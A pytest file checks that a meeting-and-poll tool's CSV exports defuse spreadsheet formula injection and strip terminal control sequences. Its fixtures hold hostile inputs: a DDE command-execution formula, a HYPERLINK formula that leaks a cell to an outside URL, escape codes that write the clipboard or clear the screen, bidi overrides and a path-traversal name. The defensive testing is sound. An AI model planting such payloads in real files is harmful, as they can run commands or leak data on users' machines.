"""Hostile texts in every place an export shows: faithful in the plain form, harmless in the one for spreadsheets."""

import csv
import io
import shutil
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hep_tui.actions import meetings, notes, polls, record
from hep_tui.domain.ballots import Ballot
from hep_tui.domain.meetings import Meeting
from hep_tui.domain.notes import Note
from hep_tui.domain.polls import Option, Poll, PollState
from hep_tui.domain.record import to_body
from hep_tui.domain.text import clean
from hep_tui.exchange.cells import FORMULA, quoted, written
from hep_tui.exchange.export import export
from hep_tui.exchange.frames import read
from hep_tui.exchange.registry import BOOLEAN, DATE, DATETIME, INTEGER, NUMBER, Column
from hep_tui.logbook import Book, Draft
from hep_tui.logbook.opening import open_book
from tests.exchange.conftest import Filled

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"open me")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1-1",
    "-1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
)
PLAIN = (
    'She said "no", twice; and then, "yes"',
    "first line\nsecond line\n\nfourth",
    "a\ttab",
    "l'école à Ruislip, Łódź, 学校, 🙂",
    "comma,semicolon;pipe|",
    "[bold]not markup[/bold] [/x] [@click=app.quit]x[/] Vote [A]",
    "NA",
    "NaN",
    "null",
    "None",
    "true",
    "007",
    "1e5",
    "' begins with an apostrophe",
    '"',
    '""',
    ",",
    "\\",
    "\\n",
    "#N/A",
    "--",
)
# What no export may let through, whatever wrote the file; and what is left of it.
CONTROL = {
    "\x1b]0;title\x07after": "after",
    "\x1b]52;c;Y2xpcA==\x07clip": "clip",
    "\x1b[2Jcleared": "cleared",
    "\x9b31mred": "red",
    "nul\x00l": "null",
    "\u202eback": "back",
    "iso\u2066late\u2069": "isolate",
    "a\r\nb\rc": "a\nb\nc",
    "marks" + "\u0301" * 200: "mark\u015b" + "\u0301" * 8,
    "\x00=1+1": "=1+1",
    "\u202e=1+1": "=1+1",
}
Export = Callable[..., Path]


def _cells(folder: Path) -> Iterator[tuple[Path, str]]:
    for path in folder.rglob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                yield from ((path, cell) for cell in row)


def _texts(folder: Path) -> list[str]:
    with (folder / "data" / "notes.csv").open(encoding="utf-8", newline="") as file:
        return [row["text"] for row in csv.DictReader(file)]


@pytest.fixture
def quick(book: Book) -> Book:
    """Return the book without waiting for the disk."""
    book.conn.execute("PRAGMA synchronous=OFF")
    return book


def test_formulas_are_faithful_in_the_plain_form(quick: Book, exported: Export) -> None:
    for text in FORMULAS:
        notes.add(quick, Note(text))
    folder = exported(quick)
    assert _texts(folder) == list(FORMULAS)
    assert "exactly what was recorded" in (folder / "README.txt").read_text("utf-8")


def test_formulas_have_an_apostrophe_before_them_in_the_form_for_spreadsheets(quick: Book, exported: Export) -> None:
    for text in (*FORMULAS, "harmless", "1 = 1"):
        notes.add(quick, Note(text))
    folder = exported(quick, excel_safe=True)
    assert _texts(folder) == [*(f"'{text}" for text in FORMULAS), "harmless", "1 = 1"]
    assert "has an apostrophe before it" in (folder / "README.txt").read_text("utf-8")


def test_no_cell_of_any_file_begins_as_a_formula_in_the_form_for_spreadsheets(quick: Book, exported: Export) -> None:
    hostile = "=1+1"
    meeting = record.add(quick, Meeting(hostile, kind=hostile, agenda="@x", place="-x"))
    meetings.amend(quick, meeting, Meeting(hostile, place="+x"))
    notes.add(quick, Note(hostile, meeting, "=item", themes=("=theme", "-1"), models=("=A@1",)), ["=theme"])
    options = (Option("=A", hostile), Option("-B", "@b"))
    poll = polls.create(quick, Poll(hostile, hostile, "approve", options, rule="approval", tie_chain=("=lot",)))
    polls.change_state(quick, poll, PollState.OPEN)
    polls.change_state(quick, poll, PollState.CLOSED)
    quick.append("ballot", "=paper", to_body(Ballot(poll, 2, marks={"-B": 1}, reason="@why", batch="-1")))
    polls.declare(quick, poll)
    # What no poll of this program would take can still come from another laptop, after declaring too.
    quick.append("ballot", "=ballot", to_body(Ballot(poll, 1, marks={"=A": -1}, reason="@why", batch="-1")))
    folder = exported(quick, excel_safe=True)
    for path in folder.rglob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.DictReader(file):
                risky = {name: cell for name, cell in row.items() if cell.startswith(FORMULA)}
                # A number below nought begins with a sign as well.
                assert {name for name, cell in risky.items() if not cell.lstrip("-").isdigit()} == set()
    frames = read(folder)
    assert list(frames["marks"]["option"]) == ["'=A", "'-B"] * 2
    assert -1 in list(frames["marks"]["value"].dropna())
    assert list(frames["note_themes"]["theme"]) == ["'=theme", "'-1"]


def test_quotes_newlines_commas_and_other_scripts_survive_csv_and_pandas(quick: Book, exported: Export) -> None:
    for text in PLAIN:
        notes.add(quick, Note(text))
    folder = exported(quick)
    assert _texts(folder) == list(PLAIN)
    assert list(read(folder)["notes"]["text"]) == list(PLAIN)
    raw = (folder / "data" / "notes.csv").read_bytes()
    assert b"\r" not in raw
    assert not raw.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("excel_safe", [False, True])
def test_controls_that_another_program_wrote_never_reach_an_export(
    quick: Book, exported: Export, excel_safe: bool
) -> None:
    for text in CONTROL:
        quick.append("note", quick.token(), {"text": text})
    found = _texts(exported(quick, excel_safe=excel_safe))
    assert found == [f"'{t}" if excel_safe and t.startswith(FORMULA) else t for t in CONTROL.values()]


def test_a_foreign_review_is_cleaned_in_every_file_and_stays_in_its_folder(quick: Book, tmp_path: Path) -> None:
    nasty = "\x1b]0;owned\x07../../x\n\u202e[/]\x9b2J"
    head = next(quick.current("review"))
    pack = head.data["pack"]
    for part in ("phases", "roles", "groups", "themes", "priorities", "models"):
        for each in pack[part]:
            each |= {name: nasty + each[name] for name in ("label", "title") if name in each}
    body = {**head.data, "title": nasty, "pack": {**pack, "attribution": nasty}}
    quick.append("review", head.subject, body, head.id)
    quick.append(f"kind {nasty}", "x", {})
    quick.append("theme", "theme.x", {"label": nasty})
    path = export(quick, tmp_path / "out").path
    assert path.parent == tmp_path / "out"
    assert path.name.startswith("x-")
    for file in path.rglob("*"):
        if file.is_file():
            text = file.read_text("utf-8")
            assert {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs")} <= {"\n"}
    assert "\\u001b" not in (path / "datapackage.json").read_text("utf-8")


def test_what_another_program_got_wrong_is_left_out_and_counted(quick: Book, exported: Export) -> None:
    wrong: list[dict[str, Any]] = [
        {"text": 7},
        {"no": "text"},
        {"text": ["a"]},
        {"text": "a note", "table_no": "two", "quote": "yes"},
        {"text": "another", "themes": "send", "role": {"a": 1}, "key": 1},
        {"text": "a note", "table_no": -1, "sentiment": "purple", "due": "soon", "phase": "moon"},
    ]
    for body in wrong:
        quick.append("note", quick.token(), body)
    quick.append("ballot", "b", {"poll": "none", "number": 1})
    quick.append("declare", "d", {"poll": "none"})
    folder = exported(quick)
    found = read(folder)
    assert list(found["ballots"]["id"]) == []
    assert list(found["results"]["poll"]) == []
    words = (folder / "README.txt").read_text("utf-8")
    assert "left out of ballots where a row belongs to something that was taken back: 1" in words
    assert "left out of notes where a row does not hold what it should: 5" in words
    assert "left empty in notes.sentiment where the table cannot hold the value: 1" in words
    assert set(found["notes"]["sentiment"].dropna()) == set()


ODD: tuple[Any, ...] = (
    None,
    True,
    -1,
    10**30,
    1.5,
    "x",
    "",
    [],
    {},
    [[1], None],
    {"a": {}, "1": "y"},
    ["a", 1, {"id": 7}],
    [{"id": "A"}],
)


def test_no_value_in_any_field_of_any_entry_stops_an_export(filled: Filled, tmp_path: Path, exported: Export) -> None:
    copy = open_book(Path(shutil.copy(filled.book.path, tmp_path)))
    kinds = ("meeting", "step", "attendance", "theme", "note", "poll", "state", "ballot", "count", "account", "declare")
    drafts = []
    for kind in kinds:
        whole = {name: value for e in filled.book.current(kind) for name, value in e.data.items()}
        drafts += [Draft(kind, f"{kind}-{name}-{i}", {**whole, name: v}) for name in whole for i, v in enumerate(ODD)]
        drafts += [Draft(kind, f"{kind}-{name}", {n: v for n, v in whole.items() if n != name}) for name in whole]
        drafts.append(Draft(kind, f"{kind}-itself", whole))
    copy.append_all(drafts)
    frames = read(exported(copy))
    copy.close()
    assert {"meeting-itself"} <= {*frames["meetings"]["id"]}
    assert {"note-itself"} <= {*frames["notes"]["id"]}


@settings(max_examples=40)
@given(text=st.text(max_size=200) | st.text("\"',;=\n\t a", max_size=20))
def test_any_text_is_written_as_it_was_stored_and_reads_back(text: str) -> None:
    column = Column("text", "Text")
    stored = clean(text)
    plain, safe = written(column, stored), written(column, stored, excel_safe=True)
    assert plain == stored
    assert not safe.startswith(FORMULA)
    assert safe.removeprefix("'") == stored.removeprefix("'")
    by_csv = io.StringIO()
    csv.writer(by_csv, lineterminator="\n").writerow([plain, safe])
    line = f"{quoted(plain)},{quoted(safe)}\n"
    assert line == by_csv.getvalue()
    assert next(csv.reader([line])) == [plain, safe]


@pytest.mark.parametrize(
    ("type", "value"),
    [
        (INTEGER, "1"),
        (INTEGER, True),
        (INTEGER, 1.5),
        (INTEGER, -1),
        (INTEGER, 101),
        (NUMBER, -(10**400)),
        (NUMBER, float("nan")),
        (NUMBER, float("inf")),
        (NUMBER, "=1"),
        (BOOLEAN, 1),
        (BOOLEAN, "true"),
        (DATE, "31.6.2021"),
        (DATE, "2021-06-31"),
        (DATE, "20210601"),
        (DATETIME, "2021-06-01T09:00:00"),
        (DATETIME, "2021-06-01T25:00:00Z"),
        (DATETIME, 5),
    ],
)
def test_a_value_of_another_type_or_out_of_bounds_is_no_cell(type: str, value: object) -> None:
    with pytest.raises(ValueError):
        written(Column("c", "C", type, minimum=0, maximum=100), value)


@pytest.mark.parametrize(
    ("type", "value", "cell"),
    [
        (INTEGER, 0, "0"),
        (NUMBER, 2.5, "2.5"),
        (BOOLEAN, False, "false"),
        (DATE, "2020-02-29", "2020-02-29"),
        (DATETIME, "2021-06-01T09:00:00.125Z", "2021-06-01T09:00:00.125Z"),
        (INTEGER, None, ""),
        (BOOLEAN, "", ""),
    ],
)
def test_a_value_of_the_type_is_a_cell_and_missing_is_empty(type: str, value: object, cell: str) -> None:
    assert written(Column("c", "C", type), value, excel_safe=True) == cell
